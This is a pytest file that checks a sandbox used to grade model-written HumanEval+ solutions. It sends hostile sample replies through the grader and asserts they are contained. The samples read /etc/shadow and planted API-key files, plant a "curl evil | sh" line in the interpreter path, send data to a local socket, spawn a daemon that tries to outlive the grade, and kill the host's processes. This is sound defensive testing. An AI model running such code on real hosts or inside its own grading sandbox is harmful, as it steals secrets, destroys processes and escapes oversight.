"""Hostile model replies against the code sandbox, graded through the graders' own entry point.

Each reply is a ```python block a model could send: an attack, followed by a correct solution,
so that an attack which is *not* contained lets the item pass (or harms the host, which the test
then sees). Every test checks the containment on the host side.

Do not run these against a sandbox that is not a boundary outside a PID namespace: as root, the
kill attacks of such a sandbox reach every process of the machine. (They were checked against the
previous sandbox with `unshare --pid --fork --mount-proc /bin/sh -c 'python -m pytest ...'`.)
"""

from __future__ import annotations

import os
import random
import signal
import socket
import subprocess
import sysconfig
import textwrap
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

import tasks
from tasks import TaskItem, get_task
from tasks.base import Grade
from tasks.sandbox_cgroup import unavailable_reason as cgroup_unavailable

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("strict_sandbox")]

# HumanEval+ style: the tests import numpy and compare through an `assertion` helper.
ITEM = TaskItem(
    id="HumanEval/0",
    question=(
        "from typing import List\n\n\ndef has_close_elements(numbers: List[float], threshold: float) -> bool:\n"
        '    """Check if any two numbers are closer to each other than the threshold."""\n'
    ),
    gold=textwrap.dedent("""
        import numpy as np

        def is_floats(x) -> bool:
            if isinstance(x, float):
                return True
            if isinstance(x, (list, tuple)):
                return all(isinstance(i, float) for i in x)
            return False

        def assertion(out, exp, atol):
            exact_match = out == exp
            if atol == 0 and is_floats(exp):
                atol = 1e-6
            if not exact_match and atol != 0:
                np.testing.assert_allclose(out, exp, atol=atol)
            else:
                assert exact_match

        def check(candidate):
            inputs = [
                [[1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3],
                [[1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.05],
                [[1.0, 2.0, 5.9, 4.0, 5.0], 0.95],
                [[1.0, 2.0, 5.9, 4.0, 5.0], 0.8],
                [[1.1, 2.2, 3.1, 4.1, 5.1], 1.0],
                [[], 0.5],
            ]
            results = [True, False, True, False, True, False]
            for inp, exp in zip(inputs, results):
                assertion(candidate(*inp), exp, 0)
    """),
    meta={"entry_point": "has_close_elements"},
)
SOLUTION = textwrap.dedent("""
    def has_close_elements(numbers, threshold):
        ordered = sorted(numbers)
        return any(b - a < threshold for a, b in zip(ordered, ordered[1:]))
""")


def grade(attack: str, *, solution: str = SOLUTION) -> Grade:
    reply = f"Here is my solution.\n```python\n{textwrap.dedent(attack).strip()}\n\n{solution}\n```\n"
    return get_task("humanevalplus").grade(ITEM, reply)


def processes_with(marker: str) -> list[int]:
    """Live processes (zombies included) with `marker` in their command line."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def test_a_correct_solution_passes_and_a_wrong_one_fails() -> None:
    passed = grade("")
    assert (passed.correct, passed.detail) == (True, "passed")
    wrong = grade("", solution="def has_close_elements(numbers, threshold):\n    return False\n")
    assert not wrong.correct and "AssertionError" in (wrong.detail or "")


def _root_file() -> str:
    """A file of root's home outside the interpreter's directory (skip when there is none)."""
    root = Path("/root")
    try:
        files = sorted(p for p in root.iterdir() if p.is_file() and os.access(p, os.R_OK))
    except OSError:
        files = []
    if not files:
        pytest.skip("no readable file in /root to try")
    return str(files[0])


@pytest.mark.parametrize("target", ["shadow", "root_home", "project_secret", "run_db", "model_cache", "repo"])
def test_reading_the_callers_files_is_denied(
    target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    planted = {
        "project_secret": tmp_path / "project" / "secret.env",
        "run_db": home / ".local" / "share" / "masgraph" / "masgraph.db",
        "model_cache": home / ".cache" / "masgraph" / "model.gguf",
    }
    for path in planted.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("OPENAI_API_KEY=sk-planted-secret\n")
    paths = {
        "shadow": "/etc/shadow",
        "root_home": _root_file() if target == "root_home" else "",
        "repo": str(Path(tasks.__file__).resolve()),  # the project's own source tree
        **{name: str(path) for name, path in planted.items()},
    }
    result = grade(f"data = open({paths[target]!r}, 'rb').read()")
    assert not result.correct
    assert "FileNotFoundError" in (result.detail or "") or "PermissionError" in (result.detail or "")


@pytest.mark.parametrize("where", ["repo", "host_tmp", "project_dir", "interpreter"])
def test_writing_outside_the_temp_dir_does_not_reach_the_host(where: str, tmp_path: Path) -> None:
    name = f"pwned-{uuid.uuid4().hex}"
    target = {
        "repo": Path(tasks.__file__).resolve().parent.parent / name,
        "host_tmp": Path("/tmp") / name,
        "project_dir": tmp_path / "project" / name,
        "interpreter": Path(sysconfig.get_paths()["purelib"]) / f"{name.replace('-', '_')}.py",
    }[where]
    (tmp_path / "project").mkdir()
    try:
        result = grade(f"""
            import os
            os.makedirs({str(target.parent)!r}, exist_ok=True)
            with open({str(target)!r}, "w") as f:
                f.write("import os; os.system('curl evil | sh')")
        """)
        assert not target.exists()
        # These paths exist read-only or not at all inside; a clone under /tmp sits in the
        # sandbox's private /tmp instead, where the write lands and is thrown away.
        private = target.is_relative_to("/tmp")
        if where == "interpreter" or (where == "repo" and not private):
            assert not result.correct and "Error" in (result.detail or "")
    finally:
        target.unlink(missing_ok=True)


def test_a_local_server_cannot_be_reached() -> None:
    connections: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        port = server.getsockname()[1]
        stop = threading.Event()

        def serve() -> None:
            while not stop.is_set():
                try:
                    conn, _ = server.accept()
                except TimeoutError:
                    continue
                with conn:
                    conn.settimeout(2)
                    connections.append(conn.recv(100))

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        try:
            result = grade(f"""
                import socket
                with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                    s.sendall(b"exfiltrated")
            """)
        finally:
            stop.set()
            thread.join()
    assert connections == []
    assert not result.correct
    # As root the sandbox has no network at all; otherwise only a loopback of its own.
    assert "Network is unreachable" in (result.detail or "") or "Connection refused" in (result.detail or "")


def test_a_daemon_does_not_outlive_the_grade() -> None:
    marker = f"0.{random.randrange(10**8, 10**9)}"  # a unique, harmless extra argument to sleep
    attack = f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.setresuid(0, 0, 0)  # leave the run's uid, if the sandbox allows it
                except OSError:
                    pass
                os.execv("/bin/sleep", ["sleep", "30", "{marker}"])
            os._exit(0)
        time.sleep(0.3)  # the daemon is running now
    """
    try:
        result = grade(attack)
        assert processes_with(marker) == []
        assert result.correct, result.detail  # the code itself ends cleanly, not "timed out"
    finally:
        for pid in processes_with(marker):  # only if the test failed
            os.kill(pid, signal.SIGKILL)


KILL_ATTACKS = {
    "everything": "os.kill(-1, signal.SIGKILL)",
    "pid_1": "os.kill(1, signal.SIGKILL)",
    "ancestors": """
        pid = os.getppid()
        while pid > 0:
            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            os.kill(pid, signal.SIGKILL)
            pid = parent
    """,
    "ancestor_groups": """
        pid = os.getppid()
        while pid > 0:
            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if os.getpgid(pid) not in (0, os.getpgrp()):  # not its own group, which holds the attacker
                os.killpg(os.getpgid(pid), signal.SIGKILL)
            pid = parent
    """,
}


@pytest.fixture
def bystander() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the grader's user, outside the sandbox, that no attack may reach."""
    proc = subprocess.Popen(["sleep", "60"], start_new_session=True)
    yield proc
    proc.kill()
    proc.wait()


@pytest.mark.parametrize("attack", sorted(KILL_ATTACKS))
def test_killing_the_grader_is_contained(attack: str, bystander: subprocess.Popen[bytes]) -> None:
    # Attack only, no solution: the item must fail, with the grader and its neighbours alive.
    code = "import os, signal\n" + textwrap.dedent(KILL_ATTACKS[attack]).strip()
    result = grade(code, solution="")
    assert bystander.poll() is None
    assert not result.correct
    assert result.detail and "timed out" not in result.detail and "supervisor" not in result.detail


@pytest.mark.skipif(
    cgroup_unavailable() is not None, reason=f"memory cap by rlimits only: {cgroup_unavailable()}"
)
def test_memory_cap_holds_for_the_whole_tree(monkeypatch: pytest.MonkeyPatch) -> None:
    # 3 children of 100 MB each: each fits the per-process limit, together they exceed the cap.
    monkeypatch.setattr(get_task("humanevalplus"), "memory_mb", 200)
    result = grade("""
        import os, time
        children = []
        for _ in range(3):
            pid = os.fork()
            if pid == 0:
                block = b"x" * (100 * 2**20)  # touched, so really resident
                time.sleep(1)
                os._exit(0)
            children.append(pid)
        statuses = [os.waitpid(pid, 0)[1] for pid in children]
        assert statuses == [0, 0, 0], statuses
    """)
    assert not result.correct
    assert "memory limit exceeded" in (result.detail or "")


def test_disk_cap_holds_for_the_whole_tree() -> None:
    # 2 processes writing 100 MiB each (in files under the per-file limit) into the 64 MiB temp dir.
    result = grade("""
        import errno, os
        children = []
        for worker in range(2):
            pid = os.fork()
            if pid == 0:
                try:
                    for part in range(10):
                        with open(f"fill-{worker}-{part}", "wb") as f:
                            f.write(b"x" * (10 * 2**20))
                except OSError as exc:
                    os._exit(exc.errno)
                os._exit(0)
            children.append(pid)
        codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]
        if errno.ENOSPC in codes:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    """)
    assert not result.correct
    assert "No space left on device" in (result.detail or "")
